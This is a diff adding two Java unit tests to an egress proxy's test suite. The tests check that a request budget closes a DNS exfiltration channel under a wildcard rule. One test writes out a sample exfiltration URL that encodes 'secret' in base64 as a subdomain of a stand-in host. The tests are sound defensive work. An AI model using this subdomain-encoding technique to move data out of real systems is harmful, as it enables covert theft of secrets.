@@ -388,6 +388,33 @@ class EgressProxyTest {
   }
 
   @Test
+  void aSpentBudgetLeavesNoFreeDnsChannelUnderAWildcardRule() throws Exception {
+    // Each subdomain under a wildcard rule is a DNS query that carries data out; once the budget is spent
+    // the request must be refused before its name is looked up.
+    EgressRuleSpec wildcard = new EgressRuleSpec("*.dns-channel.invalid", List.of("http"), List.of(80), List.of("GET"),
+        List.of(), false, null);
+    EgressProxy proxy = EgressProxy.build(net(List.of(local(API, List.of("GET"), true, null), wildcard),
+        Map.of(API, "127.0.0.1"), 1, 1 << 20), new Secrets(Map.of()));
+    EgressBudget budget = proxy.newBudget();
+    proxy.fetch(get(api("/hello")), journal, budget);
+    EgressLimitException e = assertThrows(EgressLimitException.class,
+        () -> proxy.fetch(get("http://c2VjcmV0.dns-channel.invalid/"), journal, budget));
+    assertEquals("net.max_requests", e.limit(), e.getMessage());
+    assertEquals(1, budget.used());
+    assertEquals("denied", journal.egress().get(1).outcome(), "refused before any lookup: " + journal.egress());
+  }
+
+  @Test
+  void aLookupCountsAgainstTheBudgetEvenWhenItFails() throws Exception {
+    EgressRuleSpec wildcard = new EgressRuleSpec("*.dns-channel.invalid", List.of("http"), List.of(80), List.of("GET"),
+        List.of(), false, null);
+    EgressProxy proxy = EgressProxy.build(net(List.of(wildcard), Map.of(), 5, 1 << 20), new Secrets(Map.of()));
+    EgressBudget budget = proxy.newBudget();
+    assertThrows(EgressException.class, () -> proxy.fetch(get("http://a.dns-channel.invalid/"), journal, budget));
+    assertEquals(1, budget.used(), "the lookup took a request from the budget: " + journal.egress());
+  }
+
+  @Test
   void unsupportedMethodsAndUrlsAreRefusedByName() throws Exception {
     EgressProxy proxy = apiProxy(List.of("GET"));
     EgressDeniedException trace = assertThrows(EgressDeniedException.class,
